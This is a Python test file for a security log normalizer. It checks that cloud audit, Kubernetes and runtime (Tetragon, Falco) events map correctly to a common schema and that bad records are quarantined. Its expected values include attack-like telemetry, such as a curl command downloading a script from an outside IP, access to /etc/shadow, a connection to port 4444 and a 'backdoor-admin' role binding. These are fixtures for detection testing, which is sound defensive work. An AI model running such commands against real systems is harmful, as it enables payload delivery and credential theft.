"""Normalization: classification, per-source field maps, envelopes and quarantine reasons."""

from __future__ import annotations

import gzip
import json
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from lanner.model.event import EVENT_SCHEMA, QUARANTINE_SCHEMA
from lanner.normalize import Normalized, normalize_batch, read_events
from lanner.sources import RECORDS_SCHEMA

SAMPLES = Path(__file__).resolve().parents[1] / "data" / "samples"


@pytest.fixture(scope="module")
def con() -> duckdb.DuckDBPyConnection:
    return duckdb.connect()


def read_all(*paths: Path) -> Normalized:
    events, quarantine, counts = [], [], {}
    for _, batch, _ in read_events(paths):
        assert batch.events.schema == EVENT_SCHEMA
        assert batch.quarantine.schema == QUARANTINE_SCHEMA
        events.append(batch.events)
        quarantine.append(batch.quarantine)
        for source, n in batch.counts.items():
            counts[source] = counts.get(source, 0) + n
    return Normalized(pa.concat_tables(events), pa.concat_tables(quarantine), counts)


def by_uid(result: Normalized) -> dict[str, dict]:
    return {row["uid"]: row for row in result.events.to_pylist()}


def lines(con: duckdb.DuckDBPyConnection, *texts: str) -> Normalized:
    table = pa.Table.from_pydict(
        {"file": ["t.jsonl"] * len(texts), "position": list(range(1, len(texts) + 1)), "raw": list(texts)},
        schema=RECORDS_SCHEMA,
    )
    return normalize_batch(con, table)


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def test_every_sample_normalizes_and_nothing_is_lost() -> None:
    result = read_all(SAMPLES)
    assert result.counts == {
        "aws.cloudtrail": 7,
        "gcp.audit": 4,
        "azure.activity": 3,
        "k8s.audit": 6,
        "runtime.process": 2,
        "runtime.file": 2,
        "runtime.network": 2,
        "okta.system": 3,
        "github.audit": 3,
        "gworkspace.audit": 4,
        "m365.audit": 3,
        "azure.signin": 2,
        "azure.audit": 2,
    }
    reasons = sorted((Path(q["file"]).name, q["position"], q["reason"].split(" (")[0]) for q in result.quarantine.to_pylist())
    assert reasons == [
        ("alerts.jsonl", 4, "skipped: Falco alert from plugin source k8s_audit"),
        ("audit.jsonl", 2, "skipped: audit stage ResponseStarted is not final"),
        ("audit.jsonl", 6, "skipped: audit stage RequestReceived is not final"),
        ("events.jsonl", 4, "skipped: Tetragon process_exit"),
    ]
    assert result.events["uid"].null_count == 0 and result.events["time"].null_count == 0
    assert len(set(result.events["uid"].to_pylist())) == result.events.num_rows


def test_cloudtrail_assumed_role_field_by_field() -> None:
    row = by_uid(read_all(SAMPLES / "aws.cloudtrail" / "s3_delivery.json"))["3b0c4f4e-6a51-4a0e-9a84-0d1d6f2f7a01"]
    raw = row.pop("raw")
    assert json.loads(raw)["eventID"] == "3b0c4f4e-6a51-4a0e-9a84-0d1d6f2f7a01"
    assert row == {
        "uid": "3b0c4f4e-6a51-4a0e-9a84-0d1d6f2f7a01",
        "time": at("2024-05-14T10:02:11"),
        "source": "aws.cloudtrail",
        "class_uid": 6003,
        "cloud": "aws",
        "account": "111122223333",
        "region": "eu-west-1",
        "actor_id": "arn:aws:sts::111122223333:assumed-role/AdminRole/alice@example.com",
        "actor_name": "alice@example.com",
        "actor_type": "AssumedRole",
        "actor_session": "ASIA3XFRBF535EXAMPLE",
        "actor_original": "arn:aws:iam::111122223333:role/AdminRole",
        "src_ip": "198.51.100.23",
        "user_agent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22",
        "service": "s3.amazonaws.com",
        "operation": "PutBucketPolicy",
        "outcome": "success",
        "error": None,
        "resources": ["arn:aws:s3:::acme-invoices"],
        **{c: None for c in EVENT_SCHEMA.names[19:-1]},
    }


def test_cloudtrail_classes_failures_and_service_principals() -> None:
    rows = by_uid(read_all(SAMPLES / "aws.cloudtrail" / "s3_delivery.json"))
    key = rows["c6a4a9e0-2b8f-4f54-8a3e-6a2b1d4f9c02"]
    assert (key["class_uid"], key["operation"], key["actor_name"], key["actor_session"]) == (
        3001, "CreateAccessKey", "ci-deployer", "AKIA3XFRBF535EXAMPLE")
    denied = rows["e1f3b5d7-9a2c-4e6f-8b1d-3f5a7c9e0b03"]
    assert denied["outcome"] == "failure" and denied["error"].startswith("AccessDenied: User: arn:aws:iam::111122223333:user/ci-deployer")
    root = rows["7d9f1b3c-5e7a-4c9e-b1d3-f5a7c9e1b304"]
    assert (root["class_uid"], root["actor_type"], root["actor_name"], root["actor_session"], root["outcome"], root["error"]) == (
        3002, "Root", "root", None, "failure", "Failed authentication")
    svc = rows["0f2e4d6c-8b0a-4e9c-a7b5-d3c1e9f7a506"]
    assert (svc["actor_id"], svc["actor_type"], svc["resources"]) == (
        "ec2.amazonaws.com", "AWSService", ["arn:aws:iam::111122223333:role/web-instance-role"])


def test_eventbridge_envelope_is_unwrapped_to_the_cloudtrail_record() -> None:
    rows = by_uid(read_all(SAMPLES / "aws.cloudtrail" / "eventbridge.jsonl"))
    sg = rows["b2d4f6a8-0c1e-4a3c-8e5a-7c9e1b3d5f07"]
    assert sg["time"] == at("2024-05-15T08:30:11")  # the CloudTrail eventTime, not the envelope's
    assert (sg["account"], sg["actor_name"], sg["actor_original"]) == (
        "444455556666", "terraform", "arn:aws:iam::444455556666:role/DeployRole")
    inner = json.loads(sg["raw"])
    assert "detail-type" not in inner and inner["eventName"] == "AuthorizeSecurityGroupIngress"
    login = rows["d4f6a8c0-2e4a-4c6e-9a0c-2e4a6c8e0a08"]
    assert (login["class_uid"], login["outcome"]) == (3002, "success")


def test_gcp_impersonation_and_failure() -> None:
    rows = by_uid(read_all(SAMPLES / "gcp.audit" / "audit.jsonl"))
    fw = rows["1x2y3z4a5b6c"]
    assert {k: fw[k] for k in ("time", "account", "actor_id", "actor_name", "actor_type", "actor_original", "src_ip", "service", "operation", "outcome", "resources")} == {
        "time": at("2024-05-16T14:10:43.991"),
        "account": "acme-prod-4411",
        "actor_id": "deployer@acme-prod-4411.iam.gserviceaccount.com",
        "actor_name": "deployer",
        "actor_type": "ServiceAccount",
        "actor_original": "dana@example.org",
        "src_ip": "198.51.100.61",
        "service": "compute.googleapis.com",
        "operation": "v1.compute.firewalls.insert",
        "outcome": "success",
        "resources": ["projects/acme-prod-4411/global/firewalls/allow-ssh-any"],
    }
    denied = rows["1ab2cd3ef4gh"]
    assert (denied["outcome"], denied["region"], denied["time"]) == ("failure", "europe-west4", at("2024-05-16T15:21:07.118"))
    assert denied["error"] == "7: Permission 'storage.objects.get' denied on resource (or it may not exist)."
    assert denied["actor_session"].endswith("/keys/4f1c2b3a5d6e7f8091a2b3c4d5e6f708")
    assert rows["9zyx8wvu7tsr"]["class_uid"] == 3001
    assert rows["-4h3k9ie1b2c3"]["cloud"] == "gcp"


def test_azure_activity_fields() -> None:
    events = read_all(SAMPLES / "azure.activity" / "PT1H.json").events.to_pylist()
    user, app, start = events
    assert {k: user[k] for k in ("time", "cloud", "account", "region", "actor_id", "actor_type", "src_ip", "service", "operation", "outcome", "error")} == {
        "time": at("2024-05-17T09:12:44.517"),
        "cloud": "azure",
        "account": "8f2a1c3d-4b5e-4f60-9a7b-1c2d3e4f5a6b",
        "region": "global",
        "actor_id": "frank@acme.onmicrosoft.com",
        "actor_type": "User",
        "src_ip": "198.51.100.80",
        "service": "MICROSOFT.COMPUTE",
        "operation": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
        "outcome": "success",
        "error": None,
    }
    assert len(user["uid"]) == 32  # no eventDataId in diagnostic exports: md5 of the record
    assert (app["actor_id"], app["actor_type"], app["outcome"], app["error"]) == (
        "9e8d7c6b-5a4f-4e3d-2c1b-0a9f8e7d6c5b", "ServicePrincipal", "failure", "Forbidden")
    assert (start["outcome"], start["actor_name"]) == ("unknown", "Frank Ops")


def test_k8s_audit_fields_stages_and_impersonation() -> None:
    rows = by_uid(read_all(SAMPLES / "k8s.audit" / "audit.jsonl"))
    exec_ = rows["7b2d1e3f-4a5c-4d6e-9f80-a1b2c3d4e5f6"]  # the ResponseComplete copy was kept
    assert {k: exec_[k] for k in ("time", "cloud", "actor_id", "actor_name", "actor_type", "src_ip", "service", "operation", "outcome", "namespace", "pod", "resources")} == {
        "time": at("2024-05-18T07:52:44.981"),
        "cloud": "k8s",
        "actor_id": "system:serviceaccount:ci:deployer",
        "actor_name": "deployer",
        "actor_type": "ServiceAccount",
        "src_ip": "10.0.40.19",
        "service": "pods/exec",
        "operation": "create",
        "outcome": "success",
        "namespace": "payments",
        "pod": "api-7d9f8c-x2k4q",
        "resources": ["payments/pods/api-7d9f8c-x2k4q"],
    }
    forbidden = rows["9e8f7a6b-5c4d-4e3f-a2b1-c0d9e8f7a6b5"]
    assert (forbidden["outcome"], forbidden["error"], forbidden["actor_type"]) == ("failure", "403: Forbidden", "Anonymous")
    eks = rows["1f2e3d4c-5b6a-4978-8a9b-0c1d2e3f4a5b"]
    assert (eks["actor_name"], eks["actor_session"], eks["actor_original"], eks["resources"]) == (
        "carol", "ASIA3XFRBF535EKS001", "system:serviceaccount:kube-system:replicaset-controller",
        ["clusterrolebindings/backdoor-admin"])


def test_tetragon_exec_file_and_connect() -> None:
    result = read_all(SAMPLES / "runtime.tetragon" / "events.jsonl")
    rows = {row["source"]: row for row in result.events.to_pylist()}
    proc = rows["runtime.process"]
    assert {k: proc[k] for k in ("time", "class_uid", "cloud", "operation", "host", "container_id", "pod", "namespace", "image", "pid", "exe", "cmdline", "user", "parent_pid", "parent_exe")} == {
        "time": at("2024-05-19T10:00:00.123"),
        "class_uid": 1007,
        "cloud": "k8s",
        "operation": "exec",
        "host": "ip-10-0-3-17.ec2.internal",
        "container_id": "3f1e2d4c5b6a7980a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c",
        "pod": "api-7d9f8c-x2k4q",
        "namespace": "payments",
        "image": "docker.io/acme/payments-api:2.4.1",
        "pid": 45123,
        "exe": "/usr/bin/curl",
        "cmdline": "/usr/bin/curl -sSL http://203.0.113.66/x.sh -o /tmp/x.sh",
        "user": "0",
        "parent_pid": 45100,
        "parent_exe": "/bin/sh",
    }
    assert (rows["runtime.file"]["class_uid"], rows["runtime.file"]["operation"], rows["runtime.file"]["file_path"]) == (1001, "write", "/etc/shadow")
    net = rows["runtime.network"]
    assert (net["class_uid"], net["operation"], net["dst_ip"], net["dst_port"]) == (4001, "connect", "203.0.113.66", 80)
    # No native id: a deterministic hash, identical on re-ingestion.
    again = read_all(SAMPLES / "runtime.tetragon" / "events.jsonl")
    assert again.events["uid"].to_pylist() == result.events["uid"].to_pylist()


def test_falco_alerts_as_runtime_events() -> None:
    rows = {row["source"]: row for row in read_all(SAMPLES / "runtime.falco" / "alerts.jsonl").events.to_pylist()}
    shell = rows["runtime.process"]
    assert {k: shell[k] for k in ("uid", "time", "operation", "host", "container_id", "pod", "namespace", "image", "pid", "exe", "cmdline", "user", "parent_pid", "parent_cmdline")} == {
        "uid": "0b5c7e2a-3f41-4d8e-9a6b-1c2d3e4f5a60",
        "time": at("2024-05-19T10:05:12.345"),
        "operation": "exec",
        "host": "ip-10-0-3-17",
        "container_id": "8c3d2e1f0a9b",
        "pod": "nginx-6d4cf56db6-h2xkq",
        "namespace": "web",
        "image": "docker.io/library/nginx:1.25.4",
        "pid": 90211,
        "exe": "/usr/bin/bash",
        "cmdline": "bash -il",
        "user": "root",
        "parent_pid": 90190,
        "parent_cmdline": "runc exec -t 8c3d2e1f0a9b bash -il",
    }
    assert (rows["runtime.file"]["file_path"], rows["runtime.file"]["operation"]) == ("/etc/shadow", "open")
    net = rows["runtime.network"]
    assert (net["dst_ip"], net["dst_port"], net["container_id"], net["cloud"], len(net["uid"])) == ("198.51.100.250", 4444, None, "host", 32)


def test_bad_records_each_get_their_reason(con: duckdb.DuckDBPyConnection) -> None:
    good = '{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"GetObject","eventID":"ok-1","eventTime":"2024-01-01T00:00:00Z"}'
    result = lines(
        con,
        good,
        '{"eventVersion":"1.08","eventSource":"s3.amazonaws.com", "eventName": ',
        '{"hello":"world"}',
        '{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"GetObject","eventTime":"2024-01-01T00:00:00Z"}',
        '{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"GetObject","eventID":"x","eventTime":"yesterday"}',
        "[1, 2]",
        '{"detail-type":"AWS API Call via CloudTrail","detail":"{not json"}',
    )
    assert result.events["uid"].to_pylist() == ["ok-1"]
    assert result.counts == {"aws.cloudtrail": 1}
    got = sorted((q["position"], q["reason"], q["source"]) for q in result.quarantine.to_pylist())
    assert got == [
        (2, "malformed JSON", None),
        (3, "unrecognised log type", None),
        (4, "missing uid (eventID)", "aws.cloudtrail"),
        (5, "missing or unparseable time (eventTime)", "aws.cloudtrail"),
        (6, "record is not a JSON object", None),
        (7, "unrecognised log type", None),
    ]
    texts = {q["position"]: q["raw"] for q in result.quarantine.to_pylist()}
    assert texts[3] == '{"hello":"world"}'  # verbatim


def test_time_offsets_and_naive_times_are_utc(con: duckdb.DuckDBPyConnection) -> None:
    base = '{{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"GetObject","eventID":"{0}","eventTime":"{1}"}}'
    result = lines(
        con,
        base.format("z", "2024-03-01T10:00:00.9999Z"),
        base.format("offset", "2024-03-01T12:00:00+02:00"),
        base.format("lake", "2024-03-01 10:00:00.000"),
    )
    times = dict(zip(result.events["uid"].to_pylist(), result.events["time"].to_pylist(), strict=True))
    assert times == {
        "z": at("2024-03-01T10:00:00.999"),
        "offset": at("2024-03-01T10:00:00"),
        "lake": at("2024-03-01T10:00:00"),
    }


def test_aks_kube_audit_envelope(con: duckdb.DuckDBPyConnection) -> None:
    inner = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "aks-1", "stage": "ResponseComplete", "verb": "get",
             "requestURI": "/api/v1/namespaces/default/secrets/s", "user": {"username": "masterclient"},
             "objectRef": {"resource": "secrets", "namespace": "default", "name": "s"}, "responseStatus": {"code": 200},
             "stageTimestamp": "2024-05-20T01:02:03.456789Z"}
    record = {"time": "2024-05-20T01:02:04Z", "category": "kube-audit", "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
              "resourceId": "/SUBSCRIPTIONS/X/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS1",
              "properties": {"log": json.dumps(inner), "stream": "stdout", "pod": "kube-apiserver-abc"}}
    result = lines(con, json.dumps(record))
    (row,) = result.events.to_pylist()
    assert (row["source"], row["uid"], row["resources"], row["raw"]) == ("k8s.audit", "aks-1", ["default/secrets/s"], json.dumps(inner))


def test_empty_batch(con: duckdb.DuckDBPyConnection) -> None:
    result = lines(con)
    assert result.events.schema == EVENT_SCHEMA and result.events.num_rows == 0 and result.counts == {}


def test_read_events_merges_framing_quarantine_and_reports_bytes(tmp_path: Path) -> None:
    good = (SAMPLES / "gcp.audit" / "audit.jsonl").read_bytes()
    path = tmp_path / "mixed.log"
    path.write_bytes(gzip.compress(good + b'{"bad": "\xff"}\n' + b"not json at all\n"))
    out = list(read_events([path]))
    assert len(out) == 1
    file, batch, nbytes = out[0]
    assert file == path and nbytes == path.stat().st_size
    assert batch.counts == {"gcp.audit": 4}
    assert sorted((q["position"], q["reason"]) for q in batch.quarantine.to_pylist()) == [
        (5, "not valid UTF-8 (byte 10 of the line)"),
        (6, "malformed JSON"),
    ]


def test_a_key_with_a_null_value_counts_as_absent(con: duckdb.DuckDBPyConnection) -> None:
    # `protoPayload: null` does not make a CloudTrail record a GCP entry, on either route.
    text = ('{"eventVersion":"1.08","eventSource":"s3.amazonaws.com","eventName":"GetObject","eventID":"n-%d",'
            '"eventTime":"2024-01-01T00:00:00Z","protoPayload":null,"verb":null}')
    for n in (1, 3000):  # 3000 rows take the sampled fast route
        table = pa.Table.from_pydict(
            {"file": ["t.jsonl"] * n, "position": list(range(1, n + 1)), "raw": [text % i for i in range(n)]},
            schema=RECORDS_SCHEMA,
        )
        result = normalize_batch(con, table)
        assert result.counts == {"aws.cloudtrail": n} and result.quarantine.num_rows == 0
        assert result.events["raw"].to_pylist() == [text % i for i in range(n)]  # verbatim, in order


def test_large_plain_and_gzip_files_take_the_fast_route_and_agree(tmp_path: Path) -> None:
    sample = [json.dumps(r) for r in json.loads((SAMPLES / "aws.cloudtrail" / "s3_delivery.json").read_text())["Records"]]
    body = [json.dumps({**json.loads(sample[i % len(sample)]), "eventID": f"id-{i}"}) for i in range(5000)]
    body[10] = '{"eventID": broken'
    body[20] = ""
    data = ("\r\n".join(body) + "\r\n").encode()
    plain, packed = tmp_path / "ct.jsonl", tmp_path / "ct.jsonl.gz"
    plain.write_bytes(data)
    packed.write_bytes(gzip.compress(data))
    a, b = read_all(plain), read_all(packed)
    assert a.counts == b.counts == {"aws.cloudtrail": 4998}
    assert a.events.to_pylist() == b.events.to_pylist()
    assert [(q["position"], q["reason"]) for q in a.quarantine.to_pylist()] == [(11, "malformed JSON")]
    assert a.events["raw"][0].as_py() == body[0]
